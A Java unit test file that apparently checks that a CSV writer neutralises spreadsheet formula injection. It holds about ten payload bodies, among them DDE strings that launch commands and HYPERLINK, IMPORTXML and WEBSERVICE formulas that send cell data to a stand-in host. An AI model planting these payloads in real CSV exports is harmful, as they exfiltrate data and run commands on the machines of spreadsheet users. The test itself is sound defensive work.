package org.countersign.audit;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

class CsvLineTests {

    private static final List<String> STARTS = List.of(
            "=", "+", "-", "@", "\t", "\r", "\n", "\t=", "\r\n=", " =", "\u00a0=", "\u3000+", "\u0000=", "\ufeff=", "＝",
            "＋", "－", "＠", "  -", "\u000b@");

    private static final List<String> BODIES = List.of(
            "1+1",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://evil.example?x=\"&A1,\"Error\")",
            "IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")",
            "WEBSERVICE(\"http://evil.example\")",
            "DDE(\"cmd\";\"/C calc\";\"x\")",
            "SUM(1,1)\",=1+1,\"",
            "1+1\"\r\n=2+2",
            "2+5+cmd|' /C calc'!'A1'",
            "@SUM(1+9)*cmd|' /C calc'!A0");

    @Test
    void noneOf200PayloadsStartsACell() {
        List<String> payloads = STARTS.stream()
                .flatMap(start -> BODIES.stream().map(body -> start + body))
                .toList();
        assertThat(payloads).hasSize(200);
        assertThat(payloads).allSatisfy(payload -> {
            List<List<String>> rows = parsed(CsvLine.of("before", payload, "after"));
            assertThat(rows).hasSize(1);
            assertThat(rows.getFirst()).containsExactly("before", "'" + payload, "after");
        });
    }

    @Test
    void everythingElseComesBackAsItWas() {
        List<String> texts =
                List.of("", "EH1a, April 2020", "say \"hello\"", "a,b", "two\r\nlines", "5-1", "a=b", "é 你");
        assertThat(parsed(CsvLine.of(texts.toArray(String[]::new)))).containsExactly(texts);
    }

    /** A reader of its own, after RFC 4180 and nothing of ours. */
    static List<List<String>> parsed(String file) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int at = 0; at < file.length(); at++) {
            char here = file.charAt(at);
            if (quoted) {
                if (here != '"') {
                    cell.append(here);
                } else if (at + 1 < file.length() && file.charAt(at + 1) == '"') {
                    cell.append('"');
                    at++;
                } else {
                    quoted = false;
                }
            } else if (here == '"') {
                quoted = true;
            } else if (here == ',' || here == '\r') {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (here == '\n') {
                rows.add(List.copyOf(row));
                row.clear();
            } else {
                cell.append(here);
            }
        }
        return Stream.concat(rows.stream(), row.isEmpty() ? Stream.empty() : Stream.of(List.copyOf(row)))
                .toList();
    }
}
